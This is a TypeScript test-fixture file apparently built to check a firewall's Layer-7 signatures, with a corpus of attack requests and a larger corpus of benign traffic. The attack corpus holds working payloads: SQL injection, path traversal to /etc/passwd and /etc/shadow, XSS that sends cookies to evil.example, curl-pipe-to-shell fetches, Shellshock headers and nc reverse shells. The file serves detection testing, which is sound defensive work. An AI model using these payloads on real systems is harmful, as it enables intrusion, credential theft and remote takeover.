// HTTP request corpora for the built-in L7 signature sets (src/firewall/l7.ts),
// shared by the pure test (l7.test.ts) and the kernel's test: attacks each
// set must catch, and benign traffic no set may match. Plain data, no imports:
// every request is a complete HTTP/1.1 request with CRLF line endings (and a
// correct Content-Length when it has a body). Every attack is caught within
// the first TG_L7_SCAN (512) bytes, the bytes the datapath scans of a segment.

const CRLF = '\r\n';

/** A request: its line, Host, more header lines, and an optional body (Content-Length is added). */
function request(line: string, host: string, headers: readonly string[], body?: string): string {
  const all = [line, `Host: ${host}`, ...headers];
  if (body !== undefined) all.push(`Content-Length: ${new TextEncoder().encode(body).length}`);
  return all.join(CRLF) + CRLF + CRLF + (body ?? '');
}

const FORM = 'Content-Type: application/x-www-form-urlencoded';
const JSON_TYPE = 'Content-Type: application/json';

const UA_CHROME = 'User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';
const UA_SAFARI = 'User-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15';
const UA_FIREFOX = 'User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0';
const UA_IPHONE = 'User-Agent: Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1';
const UA_CURL = 'User-Agent: curl/8.5.0';
const UA_PYTHON = 'User-Agent: python-requests/2.31.0';
const UA_OKHTTP = 'User-Agent: okhttp/4.12.0';
const UA_GO = 'User-Agent: Go-http-client/1.1';

/** Attacks each built-in set must detect, by set name. */
export const L7_ATTACKS: Record<'sql-injection' | 'path-traversal' | 'xss' | 'shell-injection', string[]> = {
  'sql-injection': [
    request('GET /item?id=1 UNION SELECT password FROM users HTTP/1.1', 'shop.example.com', [UA_CURL, 'Accept: */*']),
    request('GET /item?id=1%20UnIoN%20SeLeCt%20username,password%20FROM%20users HTTP/1.1', 'shop.example.com', [UA_PYTHON, 'Accept: */*']),
    request('GET /products?cat=-1+union+select+1,2,table_name+from+x-- HTTP/1.1', 'shop.example.com', [UA_CHROME, 'Accept: text/html']),
    request('POST /login HTTP/1.1', 'app.example.com', [UA_FIREFOX, FORM], "username=admin' or '1'='1&password=x"),
    request('POST /login HTTP/1.1', 'app.example.com', [UA_CURL, FORM], 'username=admin" or "1"="1&password=x'),
    request("GET /user?name=x' OR 1=1-- HTTP/1.1", 'app.example.com', [UA_CURL, 'Accept: application/json']),
    request("GET /search?q=abc'; DROP TABLE users HTTP/1.1", 'app.example.com', [UA_PYTHON]),
    request('GET /api/v1/orders?sort=id;DROP TABLE orders HTTP/1.1', 'api.example.com', [UA_GO, 'Accept: application/json']),
    request('GET /news?id=1 AND SLEEP(5) HTTP/1.1', 'news.example.com', [UA_CURL, 'Accept: */*']),
    request('GET /news?id=1 AND 1=(SELECT COUNT(*) FROM INFORMATION_SCHEMA.TABLES) HTTP/1.1', 'news.example.com', [UA_CURL]),
    request('GET / HTTP/1.1', 'app.example.com', [UA_CHROME, "X-Forwarded-For: 1' AND BENCHMARK(5000000,MD5(1)) AND '1"]),
    request("GET /report?id=1;WAITFOR DELAY '0:0:5' HTTP/1.1", 'intranet.example.com', [UA_CURL]),
    request('POST /api/query HTTP/1.1', 'intranet.example.com', [UA_PYTHON, FORM], "q=1; EXEC master..xp_cmdshell 'whoami'"),
    request('GET /view?id=1 and @@version>0 HTTP/1.1', 'app.example.com', [UA_CURL]),
    request('GET /account HTTP/1.1', 'app.example.com', [UA_FIREFOX, 'Cookie: session=4f2a9c; uid=1 UNION ALL SELECT null,null']),
    request('GET /doc?id=-1 AND LOAD_FILE(0x2f6574632f686f737473) HTTP/1.1', 'app.example.com', [UA_CURL]),
    request("GET /x?id=1 INTO OUTFILE '/var/www/html/s.php' HTTP/1.1", 'app.example.com', [UA_CURL]),
    request("GET /login?user=admin'--&pass=x HTTP/1.1", 'app.example.com', [UA_CHROME, 'Accept: text/html']),
  ],
  'path-traversal': [
    request('GET /../../etc/passwd HTTP/1.1', 'files.example.com', [UA_CURL, 'Accept: */*']),
    request('GET /static/..%2f..%2f..%2fetc/hosts HTTP/1.1', 'files.example.com', [UA_CURL]),
    request('GET /download?file=..\\..\\windows\\win.ini HTTP/1.1', 'files.example.com', [UA_PYTHON]),
    request('GET /img?path=%2e%2e/%2e%2e/secret.key HTTP/1.1', 'cdn.example.com', [UA_CURL]),
    request('GET /img?path=%2E%2E%2F%2E%2E%2Fboot.ini HTTP/1.1', 'cdn.example.com', [UA_CHROME, 'Accept: image/*']),
    request('GET /files?name=..%5C..%5Cweb.config HTTP/1.1', 'files.example.com', [UA_GO]),
    request('GET /view?page=/ETC/SHADOW HTTP/1.1', 'app.example.com', [UA_CURL]),
    request('GET /read?f=/proc/self/environ HTTP/1.1', 'app.example.com', [UA_CURL]),
    request('GET /load?f=C:\\Windows\\System32\\drivers\\etc\\hosts HTTP/1.1', 'app.example.com', [UA_PYTHON]),
    request('POST /api/export HTTP/1.1', 'api.example.com', [UA_PYTHON, JSON_TYPE], '{"template":"../../../../srv/app/config.yml"}'),
    request('GET /admin HTTP/1.1', 'app.example.com', [UA_CURL, 'X-Original-URL: /public/../admin/users']),
    request('GET /index.php?page=....//....//etc/passwd HTTP/1.1', 'app.example.com', [UA_FIREFOX]),
    request(
      'POST /upload HTTP/1.1', 'files.example.com', [UA_CHROME, 'Content-Type: multipart/form-data; boundary=----b1'],
      '------b1\r\nContent-Disposition: form-data; name="f"; filename="../../var/www/shell.php"\r\nContent-Type: text/plain\r\n\r\nhi\r\n------b1--\r\n',
    ),
    request('GET /api/file?path=%2e%2e%2fconfig%2fdatabase.yml HTTP/1.1', 'api.example.com', [UA_OKHTTP]),
  ],
  xss: [
    request('POST /comment HTTP/1.1', 'blog.example.com', [UA_FIREFOX, FORM], 'text=<script>alert(1)</script>&post=12'),
    request('GET /search?q=<script>alert(document.domain)</script> HTTP/1.1', 'blog.example.com', [UA_CHROME]),
    request('GET /search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E HTTP/1.1', 'blog.example.com', [UA_CHROME, 'Accept: text/html']),
    request('GET /redirect?url=javascript:alert(1) HTTP/1.1', 'app.example.com', [UA_CURL]),
    request('GET /profile?name=<img src=x onerror=alert(1)> HTTP/1.1', 'app.example.com', [UA_FIREFOX]),
    request('POST /bio HTTP/1.1', 'app.example.com', [UA_SAFARI, FORM], "bio=<body onload=alert('xss')>"),
    request('GET /page?x=<IFRAME SRC="https://evil.example/"></IFRAME> HTTP/1.1', 'app.example.com', [UA_CURL]),
    request(
      'POST /api/comments HTTP/1.1', 'api.example.com', [UA_CHROME, JSON_TYPE],
      '{"body":"<img src=x onerror=fetch(\'//evil.example/?c=\'+document.cookie)>"}',
    ),
    request('GET / HTTP/1.1', 'app.example.com', ['User-Agent: <script>alert(1)</script>', 'Accept: */*']),
    request('GET /go?next=JaVaScRiPt:alert(1) HTTP/1.1', 'app.example.com', [UA_CURL]),
    request('GET /settings HTTP/1.1', 'app.example.com', [UA_CHROME, 'Cookie: theme=dark; pref=<ScRiPt>alert(1)</sCrIpT>']),
    request('POST /feedback HTTP/1.1', 'app.example.com', [UA_FIREFOX, FORM], "msg=%3CSCRIPT%3Edocument.location%3D'https://evil.example'%3C/script%3E"),
    request('GET /?q="><svg onload=alert(1)> HTTP/1.1', 'app.example.com', [UA_CURL]),
    request("GET /x?cb=new Image().src='//evil.example/?'+document.cookie HTTP/1.1", 'app.example.com', [UA_CURL]),
  ],
  'shell-injection': [
    request('GET /ping?host=8.8.8.8; cat /etc/passwd HTTP/1.1', 'router.example.com', [UA_CURL]),
    request('GET /ping?host=127.0.0.1| cat /etc/hosts HTTP/1.1', 'router.example.com', [UA_CURL]),
    request('POST /api/diag HTTP/1.1', 'router.example.com', [UA_PYTHON, FORM], 'target=example.com$(curl -s http://evil.example/x.sh|sh)'),
    request('GET /lookup?domain=`curl evil.example` HTTP/1.1', 'dns.example.com', [UA_CURL]),
    request('POST /hook HTTP/1.1', 'ci.example.com', [UA_GO, JSON_TYPE], '{"branch":"main$(wget -qO- http://evil.example/a)"}'),
    request('GET /cgi-bin/status.cgi HTTP/1.1', 'legacy.example.com', ["User-Agent: () { :; }; /bin/bash -c 'id'"]),
    request('GET /x?c=1;wget http://evil.example/bot -O /tmp/b HTTP/1.1', 'app.example.com', [UA_CURL]),
    request('POST /upload HTTP/1.1', 'app.example.com', [UA_CURL, FORM], 'name=a.txt; nc -e /bin/sh 10.0.0.1 4444'),
    request('GET /cgi-bin/env.cgi HTTP/1.1', 'legacy.example.com', [UA_CURL, 'Referer: () { ignored; }; echo; /bin/sh -c id']),
    request('GET /api/convert?file=a.png;/BIN/SH -i HTTP/1.1', 'app.example.com', [UA_PYTHON]),
    request('POST /admin/backup HTTP/1.1', 'app.example.com', [UA_CURL, FORM], 'path=/tmp; CAT /etc/shadow'),
    request('GET /status?svc=nginx%0a$(CURL evil.example) HTTP/1.1', 'app.example.com', [UA_CURL]),
    request('POST /graphql HTTP/1.1', 'api.example.com', [UA_CHROME, JSON_TYPE], '{"query":"{ ping(ip: \\"1.1.1.1 | cat /flag\\") }"}'),
    request('GET /run?cmd=NC -e /bin/bash attacker.example 9001 HTTP/1.1', 'app.example.com', [UA_CURL]),
  ],
};

// ---- benign traffic -----------------------------------------------------------

const BROWSER_HEADERS: readonly (readonly string[])[] = [
  [UA_CHROME, 'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8', 'Accept-Language: en-US,en;q=0.9', 'Accept-Encoding: gzip, deflate, br'],
  [UA_SAFARI, 'Accept: */*', 'Accept-Language: de-DE,de;q=0.9', 'Cookie: _ga=GA1.2.1234567890.1714557600; sessionid=q8v2m1x9; theme=dark'],
  [UA_FIREFOX, 'Accept: text/css,*/*;q=0.1', 'Referer: https://www.example.com/blog/2024/05/select-your-plan', 'Connection: keep-alive'],
  [UA_IPHONE, 'Accept: image/avif,image/webp,*/*', 'Accept-Language: fr-FR,fr;q=0.9', 'If-None-Match: "5f2b-1a9c3e"'],
  [UA_CURL, 'Accept: */*'],
  [UA_PYTHON, 'Accept: application/json', 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiIsInJvbGUiOiJ1c2VyIn0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk'],
  [UA_OKHTTP, 'Accept: application/json', 'Accept-Encoding: gzip', 'X-Request-Id: 7d4c2a10-5b6e-4f1a-9c3d-2e8f0b1a6c47'],
  [UA_GO, 'Accept-Encoding: gzip', 'Range: bytes=0-1048575'],
];

const HOSTS = ['www.example.com', 'api.example.com', 'shop.example.org', 'cdn.example.net', 'blog.example.com', 'docs.example.io'];

const GET_PATHS: readonly string[] = [
  '/', '/index.html', '/favicon.ico', '/robots.txt', '/sitemap.xml', '/static/css/main.3f2a1c.css', '/static/js/app.bundle.min.js',
  '/static/scripts/vendor.js', '/assets/img/logo@2x.png', '/fonts/inter-v12-latin-regular.woff2', '/downloads/release-2.4.1.tar.gz',
  '/downloads/file.tar.gz', '/api/v1.2/users/42', '/api/v2/orders?status=shipped&page=3&per_page=50',
  '/api/v1/products?selection=featured&sort=-price', '/search?q=credit+union+rates', '/search?q=how+to+select+a+union+representative',
  '/search?q=natural+selection+darwin', '/search?q=job+description+template', '/search?q=javascript+tutorial+for+beginners',
  '/search?q=script+writing+tips', '/search?q=sleep+tracker+app', '/search?q=etc+meaning', '/search?q=select+all+checkbox+html',
  '/search?q=union+jack+flag', '/search?q=selection+sort+vs+insertion+sort', '/account/passwd-reset?token=8f14e45fceea167a5a36dedd4bea2543',
  '/metrics/onload-time?page=home', '/docs/v1.2/getting-started.html', '/blog/2024/05/12/hello-world/', '/wiki/Caf%C3%A9',
  '/wiki/%E6%9D%B1%E4%BA%AC', '/users/jane.doe%40example.com/profile', '/api/v1/search?q=caf%C3%A9+cr%C3%A8me', '/api/geo?lat=52.5200&lon=13.4050',
  '/api/v3/repos/acme/widgets/pulls?state=open&sort=updated', '/graphql?query=%7Bviewer%7Blogin%7D%7D',
  '/api/v1/events?from=2024-01-01T00:00:00Z&to=2024-01-31T23:59:59Z', '/health', '/healthz', '/readyz', '/metrics',
  '/.well-known/openid-configuration', '/.well-known/acme-challenge/LoqXcDd5cZ4vT2', '/images/photo.2024-03-01.jpeg', '/v1.2/reports/q1.pdf',
  '/oauth2/authorize?response_type=code&client_id=web&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&scope=openid+email&state=xyz',
  '/packages/lodash/-/lodash-4.17.21.tgz', '/simple/requests/', '/maven2/org/apache/commons/commons-lang3/3.14.0/commons-lang3-3.14.0.pom',
  '/api/v1/files/report.final.v2.docx', '/cart?add=SKU-1234&qty=2', '/products/shoes?size=10.5&color=navy', '/calendar/2024-06?view=month',
  '/api/v1/users?fields=id,name,email&limit=20', '/api/v1/users?filter=name%20eq%20%27O%27Brien%27', '/news?category=politics&region=eu&q=european+union+summit',
  '/api/translate?text=Gr%C3%BC%C3%9Fe&to=en', '/download.php?id=559&name=manual.pdf', '/video/stream/1080p/segment-00042.ts', '/hls/live/playlist.m3u8',
  '/api/v1/select-options?field=country', '/select?items=1,2,3', '/api/ui/script-runner/status', '/api/docs/description.json',
  '/admin/login?next=%2Fadmin%2Fdashboard', '/tag/c%2B%2B', '/search?q=1%3D1+equation', '/api/v1/time?tz=Europe/Berlin', '/proc-stats/cpu',
  '/etc-archive/2019/index.html', '/~alice/notes.txt', '/a/b/./c.html', '/print?page=1&copies=2', '/shell/overview', '/bin/list', '/catalog/cat/7',
  '/pets?type=cat&breed=siamese', '/docs/unix/etc-directory.html', '/learn/sql/union-vs-join', '/learn/sql/select-statement', '/learn/html/script-tag',
  '/learn/js/window-onload-vs-domcontentloaded', '/learn/linux/cat-command', '/forum/t/how-do-i-reset-my-passwd/1234', '/api/v1/tables?schema=public',
  '/api/v1/benchmarks/latest', '/api/v1/sleep/summary?days=7', '/version', '/api/version?format=json', '/files/readme...txt', '/api/v1/docs/2024..2025/notes',
  '/search?q=%22hello+world%22+OR+greeting', '/search?q=rock+%26+roll', '/search?q=100%25+cotton', '/search?q=C%3A+drive+full',
];

const POSTS: ReadonlyArray<[path: string, type: string, body: string]> = [
  ['/login', FORM, 'username=alice&password=S3cure%21pass&remember=on'],
  ['/api/v1/users', JSON_TYPE, '{"name":"Zoë Ångström","email":"zoe@example.se","locale":"sv-SE"}'],
  ['/api/v1/comments', JSON_TYPE, '{"body":"Great article! The selection of examples was really helpful.","postId":981}'],
  ['/contact', FORM, 'name=O%27Brien&email=sean.obrien%40example.ie&message=Please+call+me+back'],
  ['/api/orders', JSON_TYPE, '{"items":[{"sku":"A-1","qty":1},{"sku":"B-7","qty":3}],"coupon":"SPRING24"}'],
  ['/graphql', JSON_TYPE, '{"query":"query($id: ID!) { product(id: $id) { name description price } }","variables":{"id":"42"}}'],
  ['/api/search', JSON_TYPE, '{"query":"union station to union square","filters":{"select":["name","address"]}}'],
  ['/api/v1/notes', JSON_TYPE, '{"title":"Meeting notes","text":"Discussed the selection process, description of roles, etc."}'],
  ['/account/passwd-reset', FORM, 'email=bob%40example.com'],
  ['/api/metrics', JSON_TYPE, '{"name":"onload-time","value":1234.5,"page":"/checkout"}'],
  ['/api/logs', 'Content-Type: text/plain; charset=utf-8', 'INFO 2024-05-01T10:00:00Z worker started pid=4242 queue=default'],
  ['/ws/StockQuote', 'Content-Type: text/xml; charset=utf-8', '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><GetPrice><Symbol>ACME</Symbol></GetPrice></soap:Body></soap:Envelope>'],
  ['/api/chat', JSON_TYPE, '{"message":"Can you explain what a SQL UNION does compared to a JOIN?"}'],
  ['/api/chat', JSON_TYPE, '{"message":"I\'ll be there at 5 - see you at the union hall"}'],
  ['/api/v1/feedback', JSON_TYPE, '{"rating":5,"comment":"Fast shipping 👍 très bien, merci!"}'],
  ['/cart/add', FORM, 'sku=SKU-1234&qty=2&gift=false'],
  ['/api/v2/payments', JSON_TYPE, '{"amount":1999,"currency":"EUR","card":{"token":"tok_1N3xQk2eZvKYlo2C"}}'],
  ['/oauth/token', FORM, 'grant_type=authorization_code&code=SplxlOBeZQQYbYS6WxSbIA&redirect_uri=https%3A%2F%2Fclient.example.com%2Fcb'],
  ['/webhooks/github', JSON_TYPE, '{"ref":"refs/heads/main","commits":[{"id":"0d1a26e","message":"Fix typo in README"}]}'],
  ['/api/v1/scripts', JSON_TYPE, '{"name":"nightly-backup","schedule":"0 3 * * *","runtime":"python3.12"}'],
  ['/api/v1/docs', JSON_TYPE, '{"html":"<p>Hello <strong>world</strong>, see <a href=\\"/docs/intro\\">the intro</a>.</p>"}'],
  ['/api/v1/sleep-log', JSON_TYPE, '{"date":"2024-05-01","hours":7.5,"quality":"good"}'],
  ['/api/benchmarks', JSON_TYPE, '{"name":"benchmark-suite","runs":10,"warmup":2}'],
  ['/newsletter', FORM, 'email=j%C3%BCrgen%40example.de&lists=weekly'],
  ['/api/v1/profile', JSON_TYPE, '{"bio":"Union organizer. I select wines for a living.","city":"Zürich"}'],
  ['/api/v1/tasks', JSON_TYPE, '{"title":"Write description for the selection committee","due":"2024-06-01"}'],
  ['/search', FORM, 'q=union+of+selected+committee+members'],
  ['/api/translate', JSON_TYPE, '{"text":"東京は日本の首都です","target":"en"}'],
  ['/api/v1/addresses', JSON_TYPE, '{"street":"Hauptstraße 5","zip":"10115","city":"Berlin","country":"DE"}'],
  ['/api/v1/messages', JSON_TYPE, '{"to":"anna.k@example.com","subject":"Re: etc.","body":"See the attached scripts and the description."}'],
  ['/checkout', FORM, 'shipping=express&address_id=77&accept_terms=1'],
  ['/api/v1/events', JSON_TYPE, '{"type":"page_view","path":"/pricing","ts":1714557600123,"onloadTime":812}'],
  ['/api/v1/reviews', JSON_TYPE, '{"stars":4,"text":"Bought it for my cat. She loves it - 10/10 would buy again."}'],
  ['/api/v1/search', JSON_TYPE, '{"q":"\\"or\\" vs \\"and\\" in boolean logic","page":1}'],
  ['/rpc', JSON_TYPE, '{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":1}'],
  ['/api/v1/csp-report', 'Content-Type: application/csp-report', '{"csp-report":{"document-uri":"https://www.example.com/","violated-directive":"img-src","blocked-uri":"https://ads.example.net/px.gif"}}'],
  ['/api/v1/uploads', 'Content-Type: multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW', '------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name="file"; filename="holiday.photo.v2.jpg"\r\nContent-Type: image/jpeg\r\n\r\nJFIF\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n'],
  ['/api/v1/code-snippets', JSON_TYPE, '{"language":"python","code":"import time\\nprint(\'done\')"}'],
  ['/api/v1/config', 'Content-Type: application/yaml', 'server:\n  port: 8080\n  timeout: 30s\nlogging:\n  level: info\n'],
  ['/api/v1/shell-sessions', JSON_TYPE, '{"image":"ubuntu:24.04","cols":120,"rows":40}'],
  ['/api/v1/math', JSON_TYPE, '{"expr":"x = 1 or x = 2","vars":{"x":1}}'],
  ['/api/v1/sql/format', JSON_TYPE, '{"dialect":"postgres","indent":2}'],
  ['/api/v1/wishlist', FORM, 'item=Der+Herr+der+Ringe&note=f%C3%BCr+Oma'],
  ['/api/v1/ratings', JSON_TYPE, '{"movie":"Léon","score":9.1}'],
  ['/submit', FORM, 'title=My+first+post&tags=intro,hello&draft=0'],
  ['/api/v1/devices/register', JSON_TYPE, '{"platform":"ios","token":"a1b2c3d4e5f6","model":"iPhone15,2"}'],
  ['/api/v1/contacts/import', 'Content-Type: text/csv', 'name,email\nAlice,alice@example.com\nBob,bob@example.com\n'],
  ['/api/v1/pipeline', JSON_TYPE, '{"steps":["lint","test","build"],"selectedBranch":"release/1.4"}'],
];

const OTHERS: readonly string[] = [
  request('PUT /api/v1/users/42 HTTP/1.1', 'api.example.com', [UA_PYTHON, JSON_TYPE], '{"displayName":"Jane","timezone":"America/New_York"}'),
  request('PATCH /api/v1/tasks/7 HTTP/1.1', 'api.example.com', [UA_OKHTTP, JSON_TYPE], '{"done":true}'),
  request('DELETE /api/v1/sessions/current HTTP/1.1', 'api.example.com', [UA_CHROME, 'Cookie: sessionid=q8v2m1x9']),
  request('HEAD /downloads/file.tar.gz HTTP/1.1', 'cdn.example.net', [UA_CURL]),
  request('OPTIONS /api/v1/users HTTP/1.1', 'api.example.com', [UA_CHROME, 'Origin: https://app.example.com', 'Access-Control-Request-Method: POST', 'Access-Control-Request-Headers: content-type,authorization']),
  request('GET /chat HTTP/1.1', 'ws.example.com', [UA_CHROME, 'Upgrade: websocket', 'Connection: Upgrade', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version: 13']),
  request('PUT /storage/backups/db-2024-05-01.sql.gz HTTP/1.1', 'storage.example.com', [UA_GO, 'Content-Type: application/gzip'], 'H4sIAAAAAAAAA'),
  request('PATCH /api/v1/settings HTTP/1.1', 'api.example.com', [UA_FIREFOX, 'Content-Type: application/merge-patch+json'], '{"notifications":{"email":false}}'),
  request('DELETE /api/v1/files/report.final.v2.docx HTTP/1.1', 'api.example.com', [UA_PYTHON]),
  request('GET /api/v1/me HTTP/1.1', 'api.example.com', [UA_IPHONE, 'Cookie: lang=ja; region=%E6%9D%B1%E4%BA%AC; consent=yes', 'Accept: application/json']),
  request('GET /feed.xml HTTP/1.1', 'blog.example.com', ['User-Agent: Feedly/1.0 (+http://www.feedly.com/fetcher.html)', 'Accept: application/rss+xml, application/atom+xml']),
  request('GET /api/v1/status HTTP/1.1', 'api.example.com', ['User-Agent: kube-probe/1.29', 'Accept: */*', 'Connection: close']),
  request('GET /robots.txt HTTP/1.1', 'www.example.com', ['User-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Accept-Encoding: gzip']),
  request('GET /index.html HTTP/1.1', 'www.example.com', [UA_CHROME, 'If-Modified-Since: Wed, 01 May 2024 10:00:00 GMT', 'Cache-Control: max-age=0']),
  request('POST /api/v1/batch HTTP/1.1', 'api.example.com', [UA_GO, 'Content-Type: application/x-ndjson'], '{"index":{"_id":"1"}}\n{"title":"select committee report"}\n'),
];

/** Benign requests: no built-in set may match any of them. */
export const L7_BENIGN: string[] = [
  ...GET_PATHS.map((path, i) => request(`GET ${path} HTTP/1.1`, HOSTS[i % HOSTS.length]!, BROWSER_HEADERS[i % BROWSER_HEADERS.length]!)),
  ...POSTS.map(([path, type, body], i) => request(`POST ${path} HTTP/1.1`, HOSTS[(i + 1) % HOSTS.length]!, [BROWSER_HEADERS[(i + 3) % BROWSER_HEADERS.length]![0]!, type, 'Accept: application/json'], body)),
  ...OTHERS,
];
